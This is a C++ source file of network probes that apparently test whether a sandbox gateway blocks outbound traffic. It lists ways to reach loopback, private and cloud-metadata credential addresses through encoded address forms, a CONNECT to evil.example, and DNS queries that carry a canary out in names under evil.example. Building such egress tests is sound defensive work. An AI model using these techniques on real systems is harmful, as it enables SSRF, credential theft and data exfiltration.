// Lines 53 to 57, 67 and 50: addresses, datagrams and names that do not lead through the gateway.
#include <arpa/inet.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <vector>

#include "dial.h"

namespace interlock::probe {
namespace {

constexpr char kGet[] = "GET /latest/meta-data/ HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n";

std::string GetFrom(std::string_view host) {
  std::string out = kGet;
  return out.replace(out.find("{}"), 2, host);
}

// {host} in `text` is this host's own address. Port 0 stands for the bait's.
Attempt Dial(const Facts& facts, const Probe& probe) {
  std::string address(probe.text);
  if (address == "{host}") address = facts.address;
  if (address.empty()) return Blocked("this host has no address but loopback");
  const auto to = Literal(address, probe.number != 0 ? probe.number : facts.tcp_port);
  if (!to) return Blocked("not an address here");
  const bool v6 = address.find(':') != std::string::npos;
  return DialTcp(facts, *to,
                 GetFrom(v6 ? "[" + address.substr(0, address.find('%')) + "]" : address));
}

// A number or name as the *host* of a request, dialled at an address that leads to the gateway.
Attempt AskFor(const Facts& facts, const Probe& probe) {
  std::string host(probe.text);
  if (const auto at = host.find("{port}"); at != std::string::npos) {
    host.replace(at, 6, std::to_string(facts.tcp_port));
  }
  return DialTcp(facts, TowardsHost(host, 80), GetFrom(host));
}

// The gateway's own proxy port, as the host has it. The control's stands for it.
Attempt DialProxy(const Facts& facts, const Probe& probe) {
  const int port = facts.control ? facts.tcp_port : facts.proxy_port;
  if (port == 0) return Blocked("the gateway listens on no port");
  const auto to = Literal(std::string(probe.text), port);
  return DialTcp(facts, *to, "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n");
}

Attempt Datagram(const Facts& facts, const Probe& probe) {
  std::string address(probe.text);
  if (address == "{host}") address = facts.address;
  const auto to = Literal(address, probe.number != 0 ? probe.number : facts.udp_port);
  if (!to) return Blocked("this host has no such address");
  return AskUdp(facts, *to, "\xc0 a datagram that a server would answer",
                static_cast<Manner>(probe.second));
}

// `number` is the record type, `text` the server; the name holds what would be carried out.
Attempt Question(const Facts& facts, const Probe& probe) {
  const auto to = Literal(std::string(probe.text), 53);
  const std::string name = facts.canary.substr(0, 16) + ".carried-out.evil.example";
  return AskUdp(facts, *to, NameQuestion(name, probe.number), static_cast<Manner>(probe.second));
}
Attempt QuestionOverTcp(const Facts& facts, const Probe& probe) {
  const auto to = Literal(std::string(probe.text), probe.number);
  const std::string question = NameQuestion("carried-out.evil.example", probe.second);
  std::string bytes{static_cast<char>(question.size() >> 8), static_cast<char>(question.size())};
  bytes += question;
  const UniqueFd socket_fd(socket(to->family(), SOCK_STREAM | SOCK_CLOEXEC, 0));
  if (connect(socket_fd.get(), reinterpret_cast<const sockaddr*>(&to->storage), to->size) != 0) {
    return BlockedBy("connect");
  }
  (void)send(socket_fd.get(), bytes.data(), bytes.size(), MSG_NOSIGNAL);
  pollfd wait{socket_fd.get(), POLLIN, 0};
  std::array<char, 4096> answer;
  ssize_t got = 0;
  if (poll(&wait, 1, 4000) == 1) got = recv(socket_fd.get(), answer.data(), answer.size(), 0);
  if (got <= 2) return Blocked("connected, and nothing came back");
  const std::string_view text(answer.data(), static_cast<std::size_t>(got));
  if (text.starts_with("HTTP/") || facts.control) return JudgeStream(facts, text);
  return JudgeNames(facts, text.substr(2));
}

// Names that resolve to an address of the host's where a resolver asks the world.
Attempt ResolveAndDial(const Facts& facts, const Probe& probe) { return AskFor(facts, probe); }

// Many connections held open must not make the next one pass.
Attempt DialPastFlood(const Facts& facts, const Probe& probe) {
  std::vector<UniqueFd> held;
  const auto to = Literal("93.184.216.34", 80);
  for (int i = 0; i < probe.number; ++i) {
    UniqueFd one(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
    if (!one.valid()) break;
    (void)connect(one.get(), reinterpret_cast<const sockaddr*>(&to->storage), to->size);
    held.push_back(std::move(one));
  }
  return DialTcp(facts, TowardsHost("evil.example", 80), GetFrom("evil.example"));
}

#define TCP(label, what, address, port) \
  {.name = label,                       \
   .tries = what,                       \
   .attempt = Dial,                     \
   .text = address,                     \
   .number = port,                      \
   .ground = Ground::open_world}
#define UDP(label, what, address, port, how) \
  {.name = label,                            \
   .tries = what,                            \
   .attempt = Datagram,                      \
   .text = address,                          \
   .number = port,                           \
   .second = how,                            \
   .ground = Ground::open_world}
#define HOST(label, what, host) \
  {.name = label, .tries = what, .attempt = AskFor, .text = host, .ground = Ground::open_world}
#define NAME(label, what, server, type, how) \
  {.name = label,                            \
   .tries = what,                            \
   .attempt = Question,                      \
   .text = server,                           \
   .number = type,                           \
   .second = how,                            \
   .ground = Ground::open_world}

constexpr Probe kProbes[] = {
    TCP("B53.direct-80", "dial an address of the internet, port 80", "93.184.216.34", 80),
    TCP("B53.direct-443", "dial it on port 443, in clear", "93.184.216.34", 443),
    TCP("B53.direct-8080", "dial it on port 8080", "93.184.216.34", 8080),
    TCP("B53.direct-22", "dial it on port 22", "93.184.216.34", 22),
    TCP("B53.direct-25", "dial it on port 25", "93.184.216.34", 25),
    TCP("B53.direct-5432", "dial a database on the internet", "93.184.216.34", 5432),
    TCP("B53.private-10", "dial a private address", "10.0.0.1", 80),
    TCP("B53.private-172", "dial the Docker host's address", "172.17.0.1", 80),
    TCP("B53.private-192", "dial the home router", "192.168.1.1", 80),
    TCP("B53.shared-100", "dial a carrier's address", "100.64.0.1", 80),
    TCP("B53.metadata", "ask the cloud's metadata service", "169.254.169.254", 80),
    TCP("B53.metadata-ecs", "ask ECS for the task's credentials", "169.254.170.2", 80),
    TCP("B53.metadata-eks", "ask EKS for the pod's credentials", "169.254.170.23", 80),
    TCP("B53.metadata-alibaba", "ask Alibaba's metadata service", "100.100.100.200", 80),
    TCP("B53.metadata-oracle", "ask Oracle's metadata service", "192.0.0.192", 80),
    TCP("B53.metadata-v6", "ask the metadata service over IPv6", "fd00:ec2::254", 80),
    TCP("B53.metadata-mapped", "the same, IPv4 mapped into IPv6", "::ffff:169.254.169.254", 80),
    TCP("B53.broadcast-class", "dial an address of class E", "240.0.0.1", 80),
    {"B53.loopback", "dial a service on the host's 127.0.0.1", Dial, "127.0.0.1"},
    {"B53.loopback-other", "dial it as 127.0.0.2", Dial, "127.0.0.2"},
    {"B53.loopback-v6", "dial it as ::1", Dial, "::1"},
    {"B53.loopback-mapped", "dial it as ::ffff:127.0.0.1", Dial, "::ffff:127.0.0.1"},
    {"B53.zero", "dial it as 0.0.0.0", Dial, "0.0.0.0"},
    {"B53.zero-v6", "dial it as ::", Dial, "::"},
    {"B53.loopback-short", "dial it as 127.1", Dial, "127.1"},
    {"B53.loopback-decimal", "dial it as 2130706433", Dial, "2130706433"},
    {"B53.loopback-hex", "dial it as 0x7f000001", Dial, "0x7f000001"},
    {"B53.loopback-octal", "dial it as 017700000001", Dial, "017700000001"},
    {"B53.host-address", "dial the host by its own address", Dial, "{host}"},
    HOST("B53.host-header-loopback", "ask the gateway for http://127.0.0.1", "127.0.0.1:{port}"),
    HOST("B53.host-header-localhost", "ask it for http://localhost", "localhost:{port}"),
    HOST("B53.host-header-dot", "ask it for http://localhost.", "localhost.:{port}"),
    HOST("B53.host-header-short", "ask it for http://127.1", "127.1:{port}"),
    HOST("B53.host-header-decimal", "ask it for http://2130706433", "2130706433:{port}"),
    HOST("B53.host-header-hex", "ask it for http://0x7f000001", "0x7f000001:{port}"),
    HOST("B53.host-header-octal", "ask it for http://0177.0.0.1", "0177.0.0.1:{port}"),
    HOST("B53.host-header-v6", "ask it for http://[::1]", "[::1]:{port}"),
    HOST("B53.host-header-mapped", "ask it for http://[::ffff:127.0.0.1]",
         "[::ffff:127.0.0.1]:{port}"),
    HOST("B53.host-header-metadata", "ask it for the metadata service", "169.254.169.254"),
    HOST("B53.host-header-google", "ask it for metadata.google.internal",
         "metadata.google.internal"),
    {"B53.proxy", "use the gateway's proxy port on 127.0.0.1", DialProxy, "127.0.0.1"},
    {"B53.proxy-v6", "the same on ::1", DialProxy, "::1"},
    TCP("B54.direct", "dial an IPv6 address of the internet", "2606:4700::1111", 443),
    TCP("B54.6to4", "dial 127.0.0.1 by 6to4", "2002:7f00:1::1", 80),
    TCP("B54.nat64", "dial 127.0.0.1 by NAT64", "64:ff9b::7f00:1", 80),
    TCP("B54.nat64-metadata", "dial the metadata service by NAT64", "64:ff9b::a9fe:a9fe", 80),
    TCP("B54.unique-local", "dial a private IPv6 address", "fd12:3456::1", 80),
    TCP("B54.link-local", "dial a neighbour by its link", "fe80::1%lo", 80),
    TCP("B54.teredo", "dial by Teredo", "2001:0:4136:e378::1", 80),
    UDP("B55.quic", "speak QUIC", "93.184.216.34", 443, 0),
    UDP("B55.quic-sendto", "the same unconnected", "93.184.216.34", 443, 1),
    UDP("B55.quic-sendmmsg", "the same by sendmmsg", "93.184.216.34", 443, 2),
    UDP("B55.quic-v6", "speak QUIC over IPv6", "2606:4700::1111", 443, 0),
    UDP("B55.ntp", "ask the time", "93.184.216.34", 123, 0),
    UDP("B55.dtls", "speak DTLS", "93.184.216.34", 4433, 0),
    UDP("B55.dns-quic", "ask names over QUIC", "93.184.216.34", 853, 0),
    UDP("B55.mdns-unicast", "ask a neighbour's mDNS", "93.184.216.34", 5353, 0),
    UDP("B55.llmnr-unicast", "ask a neighbour's LLMNR", "93.184.216.34", 5355, 0),
    {"B55.host-udp", "send to a UDP service of the host", Datagram, "127.0.0.1", 0, 1},
    {"B55.host-udp-mapped", "the same as ::ffff:127.0.0.1", Datagram, "::ffff:127.0.0.1", 0, 1},
    {"B55.host-udp-sendmmsg", "the same by sendmmsg", Datagram, "127.0.0.1", 0, 2},
    {"B55.host-udp-address", "the same by the host's own address", Datagram, "{host}", 0, 1},
    {.name = "B55.dot",
     .tries = "ask names over TLS's port",
     .attempt = QuestionOverTcp,
     .text = "1.1.1.1",
     .number = 853,
     .second = 1,
     .ground = Ground::open_world},
    HOST("B55.doh", "ask names over HTTP", "dns.google"),
    HOST("B55.doh-address", "the same by address", "1.1.1.1"),
    NAME("B56.labels", "carry data out in a name", "8.8.8.8", 1, 0),
    NAME("B56.labels-sendto", "the same unconnected", "9.9.9.9", 1, 1),
    NAME("B56.labels-v6", "the same over IPv6", "2001:4860:4860::8888", 1, 0),
    NAME("B56.aaaa", "ask for AAAA", "8.8.8.8", 28, 0),
    NAME("B56.txt", "ask for TXT", "8.8.8.8", 16, 0),
    NAME("B56.null", "ask for NULL", "8.8.8.8", 10, 0),
    NAME("B56.cname", "ask for CNAME", "8.8.8.8", 5, 0),
    NAME("B56.mx", "ask for MX", "8.8.8.8", 15, 0),
    NAME("B56.any", "ask for ANY", "8.8.8.8", 255, 0),
    NAME("B56.https", "ask for HTTPS (ECH keys)", "8.8.8.8", 65, 0),
    {.name = "B56.tcp",
     .tries = "carry data out in a name over TCP",
     .attempt = QuestionOverTcp,
     .text = "8.8.8.8",
     .number = 53,
     .second = 1,
     .ground = Ground::open_world},
    {.name = "B56.tcp-txt",
     .tries = "ask for TXT over TCP",
     .attempt = QuestionOverTcp,
     .text = "8.8.8.8",
     .number = 53,
     .second = 16,
     .ground = Ground::open_world},
    {.name = "B57.nip",
     .tries = "a name that the world resolves to 127.0.0.1",
     .attempt = ResolveAndDial,
     .text = "127.0.0.1.nip.io:{port}",
     .ground = Ground::open_world},
    {.name = "B57.localtest",
     .tries = "another such name",
     .attempt = ResolveAndDial,
     .text = "localtest.me:{port}",
     .ground = Ground::open_world},
    HOST("B67.outside-egress", "a host that nobody allowed", "evil.example"),
    {.name = "B50.connection-flood",
     .tries = "hold 400 connections open, then dial on",
     .attempt = DialPastFlood,
     .number = 400,
     .ground = Ground::open_world},
};

}  // namespace

std::span<const Probe> NetworkProbes() { return kProbes; }

}  // namespace interlock::probe
